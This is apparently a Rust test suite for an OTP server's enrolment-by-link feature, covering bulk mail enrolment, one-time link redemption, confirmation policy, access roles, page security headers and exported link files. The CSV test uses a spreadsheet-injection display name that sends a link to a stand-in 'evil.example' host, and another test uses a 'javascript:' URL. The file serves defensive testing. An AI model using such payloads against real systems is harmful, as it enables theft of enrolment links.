//! Enrolment of many by links: `oncegate enrol`, the page `/enrol`, and logins with no administrator between.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::time::Duration;

use axum::http::StatusCode;
use oncegate::model::client::Scope;
use oncegate::radius::packet::Code;
use oncegate::time::{Clock as _, SystemClock};
use serde_json::{Value, json};

use crate::message::smtp::Server;
use crate::support::app::TestApp;
use crate::support::daemon::{Site, command};
use crate::support::device::Phone;
use crate::support::net::{Http, Radius};
use crate::support::outbox::outbox;
use crate::user::enrolment::{last, state};

/// What an authenticator app that scanned this URI shows at a time.
fn shown(uri: &str, at: u64) -> String {
    let read = oncegate::otpauth::OtpAuth::parse(uri).expect("an otpauth URI");
    let step = at / 30;
    let code = oncegate::otp::hotp::generate(&read.key, read.algorithm, read.digits, step);
    code.expose().expose().to_owned()
}

fn now() -> u64 {
    SystemClock.now().as_secs()
}

/// Serial and code of a link.
fn parts(link: &str) -> (String, String) {
    let (_, fragment) = link.split_once("/enrol#").expect("a link");
    let (serial, code) = fragment.split_once('.').expect("a code");
    (serial.to_owned(), code.to_owned())
}

/// The file of a personnel department: byte order mark, semicolons, Korean names, national numbers.
fn personnel(people: usize) -> String {
    let mut file = "\u{feff}phone;display_name;user;email;groups\r\n".to_owned();
    for number in 0..people {
        let name = [
            "\u{ae40}\u{cca0}\u{c218}",
            "\u{c774}\u{c601}\u{d76c}",
            "\u{bc15}",
        ][number % 3];
        let _ = write!(
            file,
            "010-{:04}-{:04};{name}{number};staff{number:03};staff{number:03}@example.com;staff\r\n",
            1000 + number,
            number
        );
    }
    file
}

/// From an empty directory: a file of 300, one command that sends 300 links by mail, 300 telephones that open
/// them and log in over RADIUS. No administrator between, and no secret where it does not belong.
#[test]
fn three_hundred_people_enrol_by_mail_and_log_in_over_radius() {
    const PEOPLE: usize = 300;
    let Some(mail) = Server::start(None) else {
        return;
    };
    let site = Site::new();
    let config = site.path().join("oncegate.toml");
    let mut text = fs::read_to_string(&config).unwrap();
    let _ = writeln!(
        text,
        "\n[delivery.mail]\nkind = \"smtp\"\nmedia = \"email\"\nhost = \"127.0.0.1\"\nport = {}\n\
         from = \"otp@oncegate.example\"\nallow_private = true\ntls = \"none\"",
        mail.port
    );
    fs::write(&config, text).unwrap();
    site.radius_client("vpn", "enrol-many-secret");
    let file = site.path().join("staff.csv");
    fs::write(&file, personnel(PEOPLE)).unwrap();
    let imported = site.json(&["user", "import", &file.to_string_lossy()]);
    assert_eq!(imported["users"], PEOPLE);
    let daemon = site.serve_with(&[
        ("ONCEGATE__HTTP__PUBLIC_URL", "https://otp.example.com/"),
        ("ONCEGATE__LOG__LEVEL", "debug"),
    ]);
    let result = site.path().join("result.csv");
    let result = result.to_string_lossy();
    let words = [
        "enrol",
        "--group",
        "staff",
        "--by",
        "mail",
        "--without-token",
    ];
    let plan = site.json(&[&words[..], &["--dry-run"]].concat());
    assert_eq!(plan["enrolled"].as_array().unwrap().len(), PEOPLE);
    assert!(!mail.has(1), "nothing was sent");
    let done = site.json(&[&words[..], &["--result", &result]].concat());
    assert_eq!(done["enrolled"].as_array().unwrap().len(), PEOPLE, "{done}");
    assert_eq!(done["failed"], json!([]));

    let mut links = BTreeMap::new();
    for number in 1..=PEOPLE {
        let (envelope, mail) = mail.text(number);
        let to = envelope.split(' ').nth(1).unwrap().to_owned();
        let at = mail.find("https://otp.example.com/enrol#").expect("a link");
        let link = mail[at..].split_whitespace().next().unwrap();
        links.insert(to, link.to_owned());
    }
    assert_eq!(links.len(), PEOPLE, "one mail each");
    // The same command again has nothing left to do.
    let again = site.run(&[&["--json"], &words[..]].concat());
    assert_eq!(again.status.code(), Some(1), "no link was made");
    let again: Value = serde_json::from_slice(&again.stdout).unwrap();
    assert_eq!(again["enrolled"], json!([]));
    assert_eq!(again["skipped"].as_array().unwrap().len(), PEOPLE);

    let mut browser = Http::new(daemon.http, "none");
    let mut vpn = Radius::new(daemon.radius, "enrol-many-secret");
    let mut secrets = Vec::new();
    for (to, link) in &links {
        let user = to.split('@').next().unwrap();
        let (serial, code) = parts(link);
        let body = json!({ "serial": serial, "code": code }).to_string();
        let (status, key) = browser
            .send("POST", "/enrol/redeem", body.as_bytes())
            .unwrap();
        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&key));
        let key: Value = serde_json::from_slice(&key).unwrap();
        let uri = key["otpauth_uri"].as_str().unwrap();
        let answer = vpn.ask(user, &shown(uri, now()));
        assert_eq!(answer, Some(Code::AccessAccept), "{user}");
        secrets.push(code);
        secrets.push(key["secret"].as_str().unwrap().to_owned());
    }
    let tokens = site.json(&["token", "list", "--state", "active"]);
    assert_eq!(tokens["tokens"].as_array().unwrap().len(), PEOPLE);
    let audit = site.json(&["audit", "list", "--limit", "5000"]).to_string();
    let result = fs::read_to_string(site.path().join("result.csv")).unwrap();
    assert_eq!(result.lines().count(), 1 + PEOPLE);
    for (place, text) in [("log", site.log()), ("audit", audit), ("result", result)] {
        assert!(
            !secrets.iter().any(|secret| text.contains(secret)),
            "{place}"
        );
    }
    assert!(daemon.terminate().success());
}

/// A link is used once, and says nothing of why it is refused.
#[tokio::test]
async fn a_link_is_used_once_and_refused_alike() {
    let app = TestApp::new();
    app.user("alice").await;
    let made = link(&app, "alice", json!({})).await;
    let (serial, code) = parts(made["link"].as_str().unwrap());
    assert_eq!(serial, made["serial"].as_str().unwrap());
    let path = format!("/v1/admin/tokens/{serial}");
    let token = app.admin("GET", &path, None).await.json();
    assert_eq!(
        (&token["state"], &token["link"]),
        (&json!("pending"), &json!("open"))
    );

    let mut refused = Vec::new();
    let other = if code.starts_with('0') { "1" } else { "0" };
    for (serial, code) in [
        (serial.as_str(), format!("{other}{}", &code[1..])),
        (&serial, code[1..].to_owned()),
        (&serial, format!("{code}{code}")),
        (&serial, String::new()),
        ("TOTP-NONE0000", code.clone()),
        ("no serial \u{0}", code.clone()),
    ] {
        refused.push(redeem(&app, serial, &code).await);
    }
    let key = redeem(&app, &serial, &code.to_lowercase()).await;
    assert_eq!(
        key.0,
        StatusCode::OK,
        "letters are read in any case: {}",
        key.1
    );
    refused.push(redeem(&app, &serial, &code).await);
    let late = link(&app, "alice", json!({ "valid_for_secs": 60 })).await;
    app.clock.advance(Duration::from_mins(1));
    let (late_serial, late_code) = parts(late["link"].as_str().unwrap());
    refused.push(redeem(&app, &late_serial, &late_code).await);
    let first = link(&app, "alice", json!({})).await;
    let second = link(&app, "alice", json!({})).await;
    assert_eq!(
        first["serial"], second["serial"],
        "the same token, another link"
    );
    let (serial, code) = parts(first["link"].as_str().unwrap());
    refused.push(redeem(&app, &serial, &code).await);
    app.admin(
        "PATCH",
        "/v1/admin/users/alice",
        Some(json!({ "disabled": true })),
    )
    .await;
    let (serial, code) = parts(second["link"].as_str().unwrap());
    refused.push(redeem(&app, &serial, &code).await);
    for (status, body) in &refused {
        assert_eq!(*status, StatusCode::CONFLICT, "{body}");
        assert_eq!(body, &refused[0].1);
    }
    let audit = app
        .admin("GET", "/v1/admin/audit?limit=1000", None)
        .await
        .json();
    let redeemed = audit["records"].as_array().unwrap().iter();
    let redeemed = redeemed.filter(|one| one["action"] == "enrol_redeem");
    assert_eq!(redeemed.count(), 1);
}

/// A link may bring the authenticator of the browser instead of a key, once.
#[tokio::test]
async fn a_link_brings_a_device_instead_of_a_key() {
    let app = TestApp::new();
    app.user("alice").await;
    let made = link(&app, "alice", json!({})).await;
    let (serial, code) = parts(made["link"].as_str().unwrap());
    let by_device = async |code: &str| {
        let body = json!({ "serial": serial, "code": code });
        let answer = app.keyed("POST", "/enrol/device", None, Some(body)).await;
        (answer.status.as_u16(), answer.json())
    };
    let wrong = by_device(&code.replace(&code[..1], "#")).await;
    assert_eq!(wrong.0, 409, "{}", wrong.1);
    let (status, device) = by_device(&code).await;
    assert_eq!(status, 200, "{device}");
    assert_eq!(device["expires_in"], 600);
    let short = device["code"].as_str().unwrap().replace('-', "");
    assert_eq!(
        device["enrol_uri"],
        format!("https://app.example.com/app/#user=alice%40default&code={short}")
    );
    assert!(device["qr_path"].as_str().unwrap().starts_with('M'));
    let token = app
        .admin("GET", &format!("/v1/admin/tokens/{serial}"), None)
        .await;
    assert_eq!(token.json()["state"], "revoked");
    for again in [by_device(&code).await, {
        let (status, answer) = redeem(&app, &serial, &code).await;
        (status.as_u16(), answer)
    }] {
        assert_eq!(again.0, 409);
        assert_eq!(again.1, wrong.1, "refused alike");
    }
    let phone = Phone::new(1);
    let sent = phone.enrol(app.service.core.now(), "alice@default", &short);
    let enrolled = app.send(&sent).await;
    assert_eq!(enrolled.status, 201, "{:?}", enrolled.json());
    assert_eq!(enrolled.json()["token"]["serial"], device["serial"]);
    assert_eq!(enrolled.json()["token"]["state"], "active");
    let page = app.keyed("GET", "/enrol", None, None).await;
    assert!(String::from_utf8_lossy(&page.body).contains("<body data-browser>"));
}

/// Where the policy wants first codes confirmed, the page of the link takes the device's, and nothing else does.
#[tokio::test]
async fn a_link_confirms_the_device_that_it_brought() {
    let policy = "reject_delay = \"0s\"\n[[rule]]\nname = \"all\"\nrequire = [\"otp\"]\n\
                  [enrolment]\nactivate = \"confirm\"\n";
    let app = TestApp::with(policy, false);
    app.user("alice").await;
    let web = app.key("web", Scope::Verify, None).await;
    let made = link(&app, "alice", json!({})).await;
    let (linked, code) = parts(made["link"].as_str().unwrap());
    let body = json!({ "serial": linked, "code": code });
    let answer = app.keyed("POST", "/enrol/device", None, Some(body)).await;
    let device = answer.json();
    assert_eq!(device["must_confirm"], true, "{device}");
    let serial = device["serial"].as_str().unwrap();
    let short = device["code"].as_str().unwrap().replace('-', "");
    // What the device redeems proves nothing, and there is no device yet.
    let (status, answer) = confirm(&app, serial, &code, &short).await;
    assert_eq!(status, 409, "{answer}");
    let phone = Phone::new(1);
    let sent = phone.enrol(app.service.core.now(), "alice@default", &short);
    let enrolled = app.send(&sent).await;
    assert_eq!(enrolled.json()["token"]["state"], "pending");
    app.clock.advance(Duration::from_secs(30));
    let ask = async || {
        let answer = app
            .as_phone(&phone, "POST", "/v1/device/otp", Some(json!({})))
            .await;
        answer.json()["code"].as_str().expect("a code").to_owned()
    };
    let first = ask().await;
    let login = app.verify(&web, "alice", &first).await;
    assert_eq!(login.json()["decision"], "reject", "not in use yet");
    app.clock.advance(Duration::from_secs(30));
    let first = ask().await;
    let other = code.replace(&code[..1], if code.starts_with('7') { "8" } else { "7" });
    for (serial, code, otp) in [
        (serial, other.as_str(), first.as_str()),
        (linked.as_str(), code.as_str(), first.as_str()),
        (serial, code.as_str(), "000000"),
    ] {
        let (status, answer) = confirm(&app, serial, code, otp).await;
        assert_eq!(status, 409, "{answer}");
    }
    app.clock.advance(Duration::from_secs(30));
    let (status, proven) = confirm(&app, serial, &code, &ask().await).await;
    assert_eq!(
        (status.as_u16(), &proven["state"]),
        (200, &json!("active")),
        "{proven}"
    );
    app.clock.advance(Duration::from_secs(30));
    let login = app.verify(&web, "alice", &ask().await).await;
    assert_eq!(login.json()["decision"], "accept");
}

/// A message with a code for a device opens the authenticator of the browser, where this server has one.
#[tokio::test]
async fn a_message_for_a_device_leads_into_the_authenticator() {
    let app = TestApp::new();
    let (courier, mut inbox) = outbox();
    app.service.core.set_courier(std::sync::Arc::new(courier));
    let user = json!({ "user": "alice", "email": "alice@example.com", "language": "ko" });
    app.admin("POST", "/v1/admin/users", Some(user)).await;
    let token = json!({ "user": "alice", "kind": "server" });
    let token = app
        .admin("POST", "/v1/admin/tokens", Some(token))
        .await
        .json();
    let path = format!(
        "/v1/admin/tokens/{}/offer",
        token["serial"].as_str().unwrap()
    );
    for (server, leads) in [
        ("https://app.example.com", true),
        ("https://other.example.com", false),
    ] {
        let body = json!({ "by": ["text", "email"], "server_url": server });
        let offered = app.admin("POST", &path, Some(body)).await;
        assert_eq!(offered.status, 200, "{:?}", offered.json());
        let text = inbox.text().await;
        let short = offered.json()["code"].as_str().unwrap().replace('-', "");
        let link = format!("https://app.example.com/app/#user=alice%40default&code={short}");
        assert_eq!(text.contains(&link), leads, "{text}");
        app.clock.advance(Duration::from_mins(2));
    }
}

/// Where others approve such tokens, or a policy takes none of their codes, the link stays good for a key.
#[tokio::test]
async fn a_link_for_a_device_keeps_the_rules_of_enrolment() {
    for rules in [
        "[enrolment]\napprovers_for = { server = 1 }\n",
        "[otp]\nkinds = [\"totp\"]\n",
    ] {
        let policy = format!(
            "reject_delay = \"0s\"\n[[rule]]\nname = \"all\"\nrequire = [\"otp\"]\n{rules}"
        );
        let app = TestApp::with(&policy, false);
        app.user("alice").await;
        let made = link(&app, "alice", json!({})).await;
        let (serial, code) = parts(made["link"].as_str().unwrap());
        let body = json!({ "serial": serial, "code": code });
        let answer = app.keyed("POST", "/enrol/device", None, Some(body)).await;
        assert_eq!(answer.problem().0, 403, "{rules}");
        assert_eq!(redeem(&app, &serial, &code).await.0, StatusCode::OK);
    }
}

/// The first code on the page activates; a link that was not used proves nothing.
#[tokio::test]
async fn the_page_takes_the_first_code() {
    let app = TestApp::with(
        "reject_delay = \"0s\"\n[[rule]]\nname = \"all\"\nrequire = [\"otp\"]\n[enrolment]\n\
         activate = \"confirm\"\nissuer = \"ACME {realm}\"\nissuer_for = { partner = \"Guests\" }\n\
         label = \"{name}\"\n",
        false,
    );
    app.user("alice").await;
    app.user("bob@partner").await;
    let verify = app.key("web", Scope::Verify, None).await;
    let made = link(&app, "alice", json!({})).await;
    let (serial, code) = parts(made["link"].as_str().unwrap());
    let early = confirm(&app, &serial, &code, "000000").await;
    assert_eq!(early.0, StatusCode::CONFLICT);
    let (_, key) = redeem(&app, &serial, &code).await;
    assert_eq!(
        (&key["issuer"], &key["account"]),
        (&json!("ACME default"), &json!("alice"))
    );
    assert_eq!(key["must_confirm"], true);
    assert!(key["qr_path"].as_str().unwrap().starts_with("M2 2h7v1h-7z"));
    let uri = key["otpauth_uri"].as_str().unwrap();
    let at = || app.service.core.now().as_secs();
    let login = app.verify(&verify, "alice", &shown(uri, at())).await.json();
    assert_eq!(
        login["decision"], "reject",
        "the policy wants a confirmation"
    );
    let wrong = confirm(&app, &serial, &code, "000000").await;
    assert_eq!(wrong.0, StatusCode::CONFLICT);
    app.clock.advance(Duration::from_mins(1));
    let (status, done) = confirm(&app, &serial, &code, &shown(uri, at())).await;
    assert_eq!((status, &done["state"]), (StatusCode::OK, &json!("active")));
    app.clock.advance(Duration::from_mins(1));
    let login = app.verify(&verify, "alice", &shown(uri, at())).await.json();
    assert_eq!(login["decision"], "accept");
    let guest = link(&app, "bob@partner", json!({})).await;
    let (serial, code) = parts(guest["link"].as_str().unwrap());
    let (_, key) = redeem(&app, &serial, &code).await;
    assert_eq!(
        (&key["issuer"], &key["account"]),
        (&json!("Guests"), &json!("bob"))
    );
}

/// No first code of a user who is disabled is taken, on the page or from an administrator; the page says what it
/// says of a link that is not good.
#[tokio::test]
async fn no_first_code_is_taken_of_who_is_disabled() {
    let app = TestApp::new();
    app.user("alice").await;
    let made = link(&app, "alice", json!({})).await;
    let (serial, code) = parts(made["link"].as_str().unwrap());
    let (_, key) = redeem(&app, &serial, &code).await;
    let otp = shown(
        key["otpauth_uri"].as_str().unwrap(),
        app.service.core.now().as_secs(),
    );
    let disabled = async |disabled: bool| {
        let body = Some(json!({ "disabled": disabled }));
        app.admin("PATCH", "/v1/admin/users/alice", body).await;
    };
    disabled(true).await;
    let other = confirm(&app, "TOTP-NONE0000", &code, &otp).await;
    let refused = confirm(&app, &serial, &code, &otp).await;
    assert_eq!(refused, other);
    let record = last(&app).await;
    assert_eq!(
        (&record["reason"], &record["purpose"]),
        (&json!("user_disabled"), &json!("confirm")),
        "{record}"
    );
    let path = format!("/v1/admin/tokens/{serial}/confirm");
    let by_hand = Some(json!({ "otp": otp }));
    let by_hand = app.admin("POST", &path, by_hand).await;
    assert_eq!(by_hand.status, 409, "{by_hand:?}");
    let remedy = by_hand.json()["remedy"].to_string();
    assert!(remedy.contains("user enable alice@default"), "{remedy}");
    assert_eq!(state(&app, &serial).await, "pending");
    disabled(false).await;
    let malformed = confirm(&app, &serial, &code, "12").await;
    assert_eq!(malformed.0, StatusCode::CONFLICT, "{}", malformed.1);
    let record = last(&app).await;
    assert_eq!(record["reason"], "malformed_code", "{record}");
    let (status, done) = confirm(&app, &serial, &code, &otp).await;
    assert_eq!((status, &done["state"]), (StatusCode::OK, &json!("active")));
}

/// One of many who open a link at once gets the key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_of_many_takes_the_key_over() {
    let app = TestApp::new();
    app.user("alice").await;
    let made = link(&app, "alice", json!({})).await;
    let (serial, code) = parts(made["link"].as_str().unwrap());
    let all = (0..32).map(|_| redeem(&app, &serial, &code));
    let all = futures_util::future::join_all(all).await;
    let taken = all.iter().filter(|(status, _)| *status == StatusCode::OK);
    assert_eq!(taken.count(), 1);
}

/// Who may not: other roles, users who did not consent, policies that ask for more.
#[tokio::test]
async fn links_keep_the_rules_of_enrolment() {
    let asked = async |policy: &str, body: Value| {
        let app = TestApp::with(
            &format!("[[rule]]\nname = \"all\"\nrequire = [\"otp\"]\n[enrolment]\n{policy}\n"),
            false,
        );
        app.user("alice").await;
        let path = "/v1/admin/users/alice/enrol-link";
        app.admin("POST", path, Some(with_url(body))).await
    };
    let refused = asked("remote = false", json!({})).await;
    assert_eq!(refused.problem().0, 403);
    let refused = asked("step_up = [\"branch_code\"]", json!({})).await;
    assert_eq!(refused.problem().0, 403);
    let refused = asked("", json!({ "deliver": ["voice"] })).await;
    assert_eq!(refused.problem().0, 400);
    let refused = asked("", json!({ "deliver": ["email"] })).await;
    assert_eq!(refused.problem().0, 400, "no address");
    let refused = asked("", json!({ "valid_for_secs": 1 })).await;
    assert_eq!(refused.problem().0, 400);
    let refused = asked("", json!({ "server_url": "javascript:alert(1)" })).await;
    assert_eq!(refused.problem().0, 400);
    assert_eq!(asked("", json!({})).await.status, 201);

    let app = TestApp::with(
        "[[rule]]\nname = \"all\"\nrequire = [\"otp\"]\n[enrolment]\napprovers = 1\n",
        false,
    );
    app.user("alice").await;
    let path = "/v1/admin/users/alice/enrol-link";
    for (scope, status) in [
        (Scope::Operator, 403),
        (Scope::Auditor, 403),
        (Scope::Verify, 403),
        (Scope::Admin, 201),
    ] {
        let key = app.key(scope.as_str(), scope, None).await;
        let answer = app.keyed("POST", path, Some(&key), Some(with_url(json!({}))));
        assert_eq!(answer.await.status, status, "{scope}");
    }
    let mut ended = json!({ "disabled": true });
    app.admin("PATCH", "/v1/admin/users/alice", Some(ended.take()))
        .await;
    let disabled = app.admin("POST", path, Some(with_url(json!({})))).await;
    assert_eq!(disabled.problem().0, 409);
}

/// The page loads nothing from elsewhere, runs no script of its own text, and is in no frame.
#[tokio::test]
async fn the_page_is_closed_to_others() {
    let app = TestApp::new();
    for (path, kind) in [
        ("/enrol", "text/html"),
        ("/enrol.js", "text/javascript"),
        ("/enrol.css", "text/css"),
    ] {
        let request = crate::support::app::request("GET", path, None, None);
        let answer = crate::support::app::send(&app.keyed, request).await;
        assert_eq!(answer.status(), 200);
        let header = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
        assert!(header("content-type").starts_with(kind));
        let policy = header("content-security-policy");
        assert!(
            policy.starts_with("default-src 'none'; script-src 'self'"),
            "{policy}"
        );
        assert!(!policy.contains("unsafe") && policy.contains("frame-ancestors 'none'"));
        assert_eq!(header("referrer-policy"), "no-referrer");
        assert_eq!(header("cache-control"), "no-store");
        assert_eq!(header("x-content-type-options"), "nosniff");
    }
    let page = include_str!("../../../src/server/http/enrol/page.html");
    let script = include_str!("../../../src/server/http/enrol/page.js");
    for inline in ["onclick", "style=", "<script>", "http://", "https://"] {
        assert!(!page.contains(inline), "{inline}");
    }
    for unsafe_word in ["innerHTML", "eval(", "document.write", "localStorage"] {
        assert!(!script.contains(unsafe_word), "{unsafe_word}");
    }
    let words = |language: &str| {
        let (_, texts) = script.split_once(&format!("  {language}: {{")).unwrap();
        let (texts, _) = texts.split_once("\n  },").unwrap();
        let names = texts.lines().filter_map(|line| line.trim().split_once(':'));
        names.map(|(name, _)| name.to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(words("en"), words("ko"));
}

/// Links in a file, as QR codes and as letters: only the caller can read them, and each is one user's.
#[test]
fn links_are_written_for_those_who_hand_them_on() {
    let site = Site::new();
    for user in ["alice", "bob"] {
        site.json(&["user", "add", user, "--group", "staff"]);
    }
    // What the user or a provider chose, and a spreadsheet would carry out with the links at hand.
    let evil = "=HYPERLINK(\"http://evil.example/?l=\"&E2,\"click\")";
    let about = ["--display-name", evil, "--phone", "+821012345678"];
    site.json(&[&["user", "set", "alice"], &about[..]].concat());
    let url = ["--server-url", "https://otp.example.com"];
    let path = |name: &str| site.path().join(name);
    let enrol = |by: &str, out: &str| {
        let out = path(out).to_string_lossy().into_owned();
        let words = [
            "enrol", "--group", "staff", "--again", "--by", by, "--out", &out,
        ];
        site.json(&[&words[..], &url].concat())
    };
    let mode = |path: &std::path::Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    let done = enrol("link", "links.csv");
    assert_eq!(done["enrolled"], json!(["alice@default", "bob@default"]));
    assert!(
        !done.to_string().contains("#TOTP"),
        "no link beside the file"
    );
    let links = fs::read_to_string(path("links.csv")).unwrap();
    assert_eq!(
        links.matches("https://otp.example.com/enrol#TOTP-").count(),
        2
    );
    assert_eq!(mode(&path("links.csv")), 0o600);
    let text = "alice@default,\"'=HYPERLINK(\"\"http://evil.example/?l=\"\"&E2,\"\"click\"\")\",,+821012345678,";
    assert!(links.contains(text), "{links}");
    enrol("qr-dir", "qr");
    assert_eq!(mode(&path("qr")), 0o700);
    assert!(
        fs::read_to_string(path("qr/alice@default.svg"))
            .unwrap()
            .starts_with("<svg")
    );
    enrol("print", "letters.html");
    let letters = fs::read_to_string(path("letters.html")).unwrap();
    assert_eq!(letters.matches("<section>").count(), 2);
    let exists = site.run(&[
        "enrol",
        "alice",
        "--by",
        "print",
        "--again",
        "--out",
        &path("letters.html").to_string_lossy(),
        url[0],
        url[1],
    ]);
    assert_eq!(exists.status.code(), Some(5), "nothing is written over");
    let nowhere = site.run(&["enrol", "alice", "--by", "link"]);
    assert_eq!(nowhere.status.code(), Some(2));
    let nothing = path("nothing.csv");
    let words = ["enrol", "alice", "--by", "link", "--again", "--out"];
    let unset = site.run(&[&words[..], &[&nothing.to_string_lossy()]].concat());
    assert_eq!(unset.status.code(), Some(2), "http.public_url is not set");
    assert!(!nothing.exists(), "a file without links is in no one's way");
    let unsent = site.run(&["enrol", "alice", "--by", "mail", "--again", url[0], url[1]]);
    let text = String::from_utf8_lossy(&unsent.stdout);
    assert!(text.contains("no mail address"), "{text}");
}

/// Without a daemon the configuration is the same one.
#[test]
fn links_without_a_daemon_lead_to_the_public_url() {
    let site = Site::new();
    site.json(&["user", "add", "alice"]);
    let url = "https://otp.example.com";
    let run = |words: &[&str]| {
        let mut run = command(&site.path());
        run.env("ONCEGATE__HTTP__PUBLIC_URL", url).arg("--json");
        let output = run.args(words).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success(), "{words:?}: {said}");
        serde_json::from_slice::<Value>(&output.stdout).unwrap()
    };
    let file = site.path().join("links.csv");
    run(&[
        "enrol",
        "alice",
        "--by",
        "link",
        "--out",
        file.to_str().unwrap(),
    ]);
    let links = fs::read_to_string(&file).unwrap();
    assert!(links.contains(&format!("{url}/enrol#TOTP-")), "{links}");
    let token = run(&["token", "add", "alice", "--kind", "server"]);
    let serial = token["serial"].as_str().unwrap();
    let offered = run(&["token", "offer", serial]);
    let uri = offered["enrol_uri"].as_str().unwrap_or_default();
    assert!(uri.starts_with(&format!("{url}/app/#")), "{offered}");
}

fn with_url(mut body: Value) -> Value {
    let url = body.as_object_mut().unwrap().entry("server_url");
    url.or_insert(json!("https://otp.example.com"));
    body
}

async fn link(app: &TestApp, user: &str, body: Value) -> Value {
    let path = format!("/v1/admin/users/{user}/enrol-link");
    let made = app.admin("POST", &path, Some(with_url(body))).await;
    assert_eq!(made.status, 201, "{made:?}");
    made.json()
}

async fn redeem(app: &TestApp, serial: &str, code: &str) -> (StatusCode, Value) {
    let body = json!({ "serial": serial, "code": code });
    let answer = app.keyed("POST", "/enrol/redeem", None, Some(body)).await;
    (answer.status, answer.json())
}

async fn confirm(app: &TestApp, serial: &str, code: &str, otp: &str) -> (StatusCode, Value) {
    let body = json!({ "serial": serial, "code": code, "otp": otp });
    let answer = app.keyed("POST", "/enrol/confirm", None, Some(body)).await;
    (answer.status, answer.json())
}

/// A dry run goes the way of the run that it stands for: what fails at once is said, and nothing is left behind.
#[test]
fn a_dry_run_promises_nothing_that_fails_at_once() {
    let site = Site::new();
    site.json(&["user", "add", "alice", "--email", "alice@example.com"]);
    let (links, results) = (site.path().join("links.csv"), site.path().join("done.csv"));
    let (out, result) = (links.to_str().unwrap(), results.to_str().unwrap());
    let dry = |words: &[&str]| {
        let output = site.run(&[&["enrol", "alice", "--dry-run"], words].concat());
        let said = [output.stdout.as_slice(), &output.stderr].concat();
        (output.status.code(), String::from_utf8(said).unwrap())
    };
    let url = ["--server-url", "https://otp.example.com"];
    let by_link = ["--by", "link", "--out", out, "--result", result];
    let nowhere = "/nonexistent/x/y";
    for (words, code, wanted) in [
        (by_link.to_vec(), 2, "http.public_url"),
        (by_link.to_vec(), 2, "restart the daemon"),
        (
            [&["--by", "mail"], &url[..]].concat(),
            5,
            "no gateway delivers",
        ),
        (
            [&["--by", "link", "--out", nowhere], &url[..]].concat(),
            2,
            nowhere,
        ),
        (
            [&["--by", "qr-dir", "--out", nowhere], &url[..]].concat(),
            2,
            nowhere,
        ),
        (
            [&["--by", "link", "--result", nowhere], &url[..]].concat(),
            2,
            nowhere,
        ),
        (
            [&by_link[..], &["--valid-for", "1s"], &url].concat(),
            2,
            "--valid-for",
        ),
        (
            [&by_link[..], &url].concat(),
            0,
            "Would enrol 1 user by link.",
        ),
        ([&["--by", "link"], &url[..]].concat(), 0, "with --out PATH"),
    ] {
        let (exit, said) = dry(&words);
        assert_eq!(exit, Some(code), "{words:?}: {said}");
        assert!(said.contains(wanted), "{words:?}: {said}");
        assert!(!links.exists() && !results.exists(), "{words:?}");
    }
    let tokens = site.json(&["token", "list"]);
    assert_eq!(tokens["tokens"], json!([]));
}
